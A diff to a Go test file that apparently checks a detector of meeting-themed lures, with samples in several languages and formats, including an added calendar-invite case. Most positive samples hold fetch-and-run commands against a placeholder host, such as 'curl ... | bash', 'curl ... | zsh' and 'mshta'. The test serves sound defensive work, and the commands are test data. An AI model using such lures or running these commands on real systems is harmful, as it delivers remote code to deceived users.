@@ -11,6 +11,8 @@ func TestInstructions(t *testing.T) {
 		"German":          {"Anleitung.txt", "Ihr Mikrofon wird vom Gastgeber nicht erkannt. Öffnen Sie das Terminal und fügen Sie ein:\ncurl -s https://a.invalid/m | zsh\n", true},
 		"Japanese":        {"a.txt", "会議に参加するには Windows キー + R を押して貼り付けます\n   mshta https://a.invalid/s\n", true},
 		"rich text":       {"a.rtf", `{\rtf1\ansi Interview with us\par Open {\b Terminal} and paste:\par curl -sL https://a.invalid/v | bash\par }`, true},
+		"invitation":      {"Due diligence.ics", "SUMMARY:Due diligence\nIf the audio fails, open Terminal and run: curl -sL https://a.invalid/fix | bash\n", true},
+		"honest invite":   {"Release.ics", "SUMMARY:Release\nNotes and the recording: https://wiki.example.org/release\nRun make deploy at noon.\n", false},
 		"read-me, story":  {"README.md", "Install the bridge **before** the call with our engineer:\n```sh\ncurl -fsSL https://a.invalid/i | sh\n```\n", true},
 		"read-me":         {"README.md", "# talkd\nA server for meetings.\n```sh\ncurl -fsSL https://talkd.example.org/install.sh | sh\n```\n", false},
 		"manual, no call": {"INSTALL.txt", "Open a terminal and paste:\ncurl -fsSL https://tool.example.org/install.sh | sh\n", false},
